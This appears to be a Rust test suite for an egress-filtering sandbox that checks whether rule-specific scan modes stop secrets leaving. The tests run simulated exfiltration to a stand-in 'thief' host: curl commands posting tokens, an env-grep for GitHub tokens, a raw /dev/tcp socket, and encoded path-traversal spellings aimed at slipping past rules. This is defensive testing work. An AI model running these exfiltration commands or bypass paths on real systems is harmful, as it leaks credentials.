//! Rules with a mode of their own: what it does to a finding, and that no
//! spelling, order or company of a request gets a weaker one than its rule's.

use outgate_harness::audit::{of_kind, records, text};
use outgate_harness::origin::Origin;
use outgate_harness::{Identity, Lab, Sandbox, lab_tests};

use crate::streams::{HANDSHAKE, frame};
use crate::{Credential, assert_contained, assert_told, bash, confined, thief};

const RULES: &str = r#"
[[allow]]
rule = "http://drop.example:8099/noted/**"
inspect = "warn"
[[allow]]
rule = "POST http://drop.example:8099/open/**"
inspect = "off"
[[allow]]
rule = "ws://drop.example:8099/noted"
inspect = "warn"
"#;

/// A sandbox that may send anything to the thief's host, and in which these
/// rules say more about some of it.
fn ruled<'l>(lab: &'l Lab, rules: &str) -> Sandbox<'l> {
    let file = lab.folder("given", Identity::Own).join("rules.toml");
    std::fs::write(&file, rules).expect("a policy");
    confined(lab, Identity::Own).option("-p", &file.to_string_lossy())
}

lab_tests! {
    fn a_rule_has_a_mode_of_its_own_for_its_requests_alone(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let file = lab.folder("records", Identity::Own).join("rules.jsonl");
        // All on one connection, in every order of modes.
        let to = |path: &str| format!("-sS -d t=$T $URL{path}");
        let script = [
            to("/noted/1"), to("/2"), to("/open/3"), to("/4"), to("/noted/5"), to("/open/6"),
            "-sS $URL/open/7?t=$T".to_owned(), "-sS -d fine $URL/8".to_owned(),
        ];
        let script = format!("T='{}'; curl {}", credential.text(), script.join(" --next "));
        let outcome = ruled(lab, RULES)
            .option("--audit", &file.to_string_lossy())
            .run(&bash(&script));
        let sent = String::from_utf8_lossy(&thief.take()).into_owned();
        for (path, arrives) in [
            ("/noted/1", true), ("/2", false), ("/open/3", true), ("/4", false), ("/noted/5", true),
            ("/open/6", true), ("/open/7", false), ("/8", true),
        ] {
            assert_eq!(sent.contains(&format!(" {path} HTTP")), arrives, "{path}: {sent} {outcome}");
        }
        assert_eq!(sent.matches(credential.text()).count(), 4, "{sent}");
        assert_told(&outcome, "the others");
        let records = records(&file);
        let findings = of_kind(&records, "finding");
        let paths = |verdict: &str| -> Vec<String> {
            let own = findings.iter().filter(|record| text(record, "verdict") == verdict);
            own.map(|record| record["path"].as_str().unwrap_or_default().to_owned()).collect()
        };
        assert_eq!(paths("note"), ["/noted/1", "/noted/5"], "{findings:?}");
        assert_eq!(paths("deny").len(), 3, "{findings:?}");
    }

    fn what_holds_a_value_is_not_written_down_where_nobody_scans(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let file = lab.folder("records", Identity::Own).join("open.jsonl");
        let script = format!("curl -sS -d x $URL/open/{}", credential.text());
        let outcome = ruled(lab, RULES)
            .option("--audit", &file.to_string_lossy())
            .run(&bash(&script));
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert_ne!(thief.take(), b"");
        let all = std::fs::read_to_string(&file).expect("the record");
        assert!(credential.pieces().all(|piece| !all.contains(piece)), "{all}");
    }

    fn a_path_that_is_a_secret_is_not_written_down_anywhere(lab) {
        let secret = ["T02K4M8Q6S/B03L5N7P9R/", "x7Kq2Vb9Zt4Nw6Pc1Rf8Yd3J"].concat();
        let pieces = [&secret[..10], &secret[11..21], &secret[22..34], &secret[34..]];
        let origin = Origin::start(8098);
        for mode in ["block", "warn", "off"] {
            let file = lab.folder("records", Identity::Own).join(format!("hooks-{mode}.jsonl"));
            let outcome = confined(lab, Identity::Own)
                .allow("http://hooks.slack.com:8098")
                .pin("hooks.slack.com:8098=127.0.0.1:8098")
                .option("--inspect", mode)
                .option("--audit", &file.to_string_lossy())
                .run(&bash(&format!("curl -sS -d text=done http://hooks.slack.com:8098/services/{secret}")));
            let all = std::fs::read_to_string(&file).expect("the record");
            assert!(all.contains("hooks.slack.com"), "{all} {outcome}");
            assert!(pieces.iter().all(|piece| !all.contains(piece)), "{mode}: {all}");
        }
        assert!(!origin.arrivals().is_empty(), "it may go there");
        let (thief, credential) = (thief(), Credential::new());
        let file = lab.folder("records", Identity::Own).join("off.jsonl");
        let outcome = confined(lab, Identity::Own)
            .option("--inspect", "off")
            .option("--audit", &file.to_string_lossy())
            .run(&bash(&format!("curl -sS $URL/{}", credential.text())));
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert_ne!(thief.take(), b"");
        let all = std::fs::read_to_string(&file).expect("the record");
        assert!(credential.pieces().all(|piece| !all.contains(piece)), "{all}");
    }

    fn no_spelling_of_a_path_chooses_a_weaker_rule(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let paths = [
            "/OPEN/a", "/open%2fa", "/open/../a", "/x/..%2fopen/a", "/open;a/b", "/openx/a", "/%2e%2e/open/../a",
            "/noted/..%2f..%2fa", "/Noted/a", "/x/noted/a",
        ];
        for path in paths {
            let script = format!("curl -sS --path-as-is -d t={} \"$URL{path}\"", credential.text());
            let outcome = ruled(lab, RULES).run(&bash(&script));
            assert_contained(&outcome, &thief.take(), &credential, path);
            assert_ne!(outcome.stdout, "arrived\n", "{path}: {outcome}");
        }
        let close = "[inspect]\nmode = \"warn\"\n[[allow]]\nrule = \"POST http://drop.example:8099/up\"\ninspect = \"block\"\n";
        for path in ["/up", "/UP", "/up/", "//up", "/up;x", "/%75p", "/up?x=y"] {
            let script = format!("curl -sS --path-as-is -d t={} \"$URL{path}\"", credential.text());
            let outcome = ruled(lab, close).run(&bash(&script));
            assert_contained(&outcome, &thief.take(), &credential, path);
            assert_told(&outcome, path);
        }
        let script = format!("curl -sS -d t={} $URL/other", credential.text());
        let outcome = ruled(lab, close).run(&bash(&script));
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert_ne!(thief.take(), b"");
    }

    fn pieces_over_rules_of_several_modes_are_put_together(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let (first, second) = credential.text().split_at(12);
        let file = lab.folder("records", Identity::Own).join("pieces.jsonl");
        for (one, other, arrives, found) in [
            ("/noted/", "/", true, "note"), ("/", "/noted/", true, "note"), ("/", "/", false, "deny"),
        ] {
            std::fs::remove_file(&file).ok();
            let script = format!("curl -sS \"$URL{one}?a={first}\"; curl -sS \"$URL{other}?b={second}\"; curl -sS $URL/fine");
            let outcome = ruled(lab, RULES)
                .option("--audit", &file.to_string_lossy())
                .run(&bash(&script));
            let sent = String::from_utf8_lossy(&thief.take()).into_owned();
            assert_eq!(sent.contains(second), arrives, "{one} {other}: {sent} {outcome}");
            assert!(sent.contains("GET /fine"), "{one} {other}: {sent} {outcome}");
            let records = records(&file);
            let findings = of_kind(&records, "finding");
            assert_eq!(findings.len(), 1, "{one} {other}: {findings:?}");
            assert_eq!(text(findings[0], "verdict"), found, "{findings:?}");
        }
    }

    fn messages_are_weighed_by_the_rule_of_their_upgrade(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let given = lab.folder("given", Identity::Own);
        for (path, arrives) in [("/noted", true), ("/ws", false), ("/noted/", false)] {
            let handshake = HANDSHAKE.replace("GET /ws ", &format!("GET {path} "));
            std::fs::write(given.join("handshake"), handshake).expect("a file");
            std::fs::write(given.join("frames"), frame(0x81, credential.text().as_bytes())).expect("a file");
            let given = given.display();
            let script = format!(
                "exec 3<>/dev/tcp/drop.example/8099; cat {given}/handshake >&3; sleep 0.3; cat {given}/frames >&3; sleep 0.5; timeout 1 cat <&3 | tr -d '\\0'",
            );
            let outcome = ruled(lab, RULES).run(&bash(&script));
            let sent = String::from_utf8_lossy(&thief.take()).into_owned();
            assert!(sent.contains(&format!("GET {path} ")), "{path}: {outcome}");
            assert_eq!(sent.contains(credential.text()), arrives, "{path}: {sent} {outcome}");
        }
    }

    fn under_strict_no_rule_is_weaker_and_no_rule_lets_a_canary_pass_with_a_record(lab) {
        let (thief, credential) = (thief(), Credential::new());
        for path in ["/noted/a", "/open/a"] {
            let script = format!("curl -sS -d t={} $URL{path}", credential.text());
            let outcome = ruled(lab, RULES).flag("--strict").run(&bash(&script));
            assert_contained(&outcome, &thief.take(), &credential, path);
            assert_told(&outcome, path);
        }
        let script = "C=$(env | grep -o 'ghp_[A-Za-z0-9]*'); curl -sS -d \"$C\" $URL/noted/a";
        let outcome = ruled(lab, RULES).run(&bash(script));
        assert_eq!(thief.take(), b"", "{outcome}");
        assert!(outcome.stderr.contains("outgate: ALARM: denied"), "{outcome}");
    }

    fn a_rule_is_scanned_where_nothing_else_is(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let rules = "[inspect]\nmode = \"off\"\n[[allow]]\nrule = \"http://drop.example:8099/close/**\"\ninspect = \"block\"\n";
        for (path, arrives) in [("/close/a", false), ("/CLOSE/a", false), ("/a", true)] {
            let script = format!("curl -sS -d t={} $URL{path}", credential.text());
            let outcome = ruled(lab, rules).run(&bash(&script));
            let sent = String::from_utf8_lossy(&thief.take()).into_owned();
            assert_eq!(sent.contains(credential.text()), arrives, "{path}: {sent} {outcome}");
        }
    }

    fn a_denial_names_what_would_allow_it_where_somebody_can(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let flag = "[[inspect.allow]] with detector = \"github-token\" and host = \"drop.example\" in a policy file";
        let file = lab.folder("records", Identity::Own).join("hint.jsonl");
        let script = format!("curl -sS -d t={} $URL/", credential.text());
        let outcome = confined(lab, Identity::Own)
            .option("--audit", &file.to_string_lossy())
            .run(&bash(&script));
        assert_eq!(thief.take(), b"", "{outcome}");
        assert!(outcome.stderr.contains(&format!("; to allow: {flag}")), "{outcome}");
        assert!(outcome.stdout.contains(&format!("to allow it: {flag}")), "{outcome}");
        let records = records(&file);
        assert_eq!(text(of_kind(&records, "finding")[0], "flag"), flag);
        // And it does.
        let allow = "[[inspect.allow]]\ndetector = \"github-token\"\nhost = \"drop.example\"\n";
        let outcome = ruled(lab, allow).run(&bash(&script));
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert_ne!(thief.take(), b"");
        // Nobody can allow a password in a URL of a database, nor a canary.
        for script in [
            "curl -sS -d 'u=postgres://admin:s7Gq-kV2xPw9Zr@db.internal:5432/app' $URL/",
            "C=$(env | grep -o 'ghp_[A-Za-z0-9]*'); curl -sS -d \"$C\" $URL/",
        ] {
            let outcome = confined(lab, Identity::Own).run(&bash(script));
            assert!(outcome.stderr.contains("denied POST"), "{outcome}");
            assert!(!outcome.stderr.contains("to allow"), "{outcome}");
            assert!(!outcome.stdout.contains("to allow"), "{outcome}");
        }
        thief.take();
    }
}
